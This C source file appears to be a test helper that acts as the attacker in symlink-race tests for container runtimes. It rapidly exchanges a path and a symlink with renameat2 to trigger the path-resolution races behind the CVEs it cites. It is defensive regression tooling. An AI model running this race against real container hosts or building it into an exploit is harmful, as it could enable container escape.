/* kura-swap-race: the attacker of the symlink-race tests.
 *
 *   kura-swap-race PATH_A PATH_B SECONDS
 *
 * Exchanges PATH_A and PATH_B (a directory or file and a symlink) with
 * renameat2(RENAME_EXCHANGE) as fast as it can for SECONDS, or until
 * SIGTERM, so that a runtime resolving a path through PATH_A meets a
 * directory one instant and a symlink the next (CVE-2021-30465,
 * CVE-2024-45310, CVE-2025-31133, CVE-2025-52565).  Leaves the two names
 * as it found them and prints the number of exchanges. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	struct sigaction sa = {.sa_handler = on_signal};
	unsigned long swaps = 0;
	time_t end;

	if (argc != 4) {
		fprintf(stderr, "usage: %s PATH_A PATH_B SECONDS\n", argv[0]);
		return 2;
	}
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	end = time(NULL) + atol(argv[3]);
	while (!stop && time(NULL) < end) {
		for (int i = 0; i < 1000 && !stop; i++) {
			if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
				perror("renameat2");
				return 1;
			}
			swaps++;
		}
	}
	/* An odd count leaves the names exchanged: put them back. */
	if ((swaps & 1) && renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
		perror("renameat2");
		return 1;
	}
	printf("%lu\n", swaps);
	return 0;
}
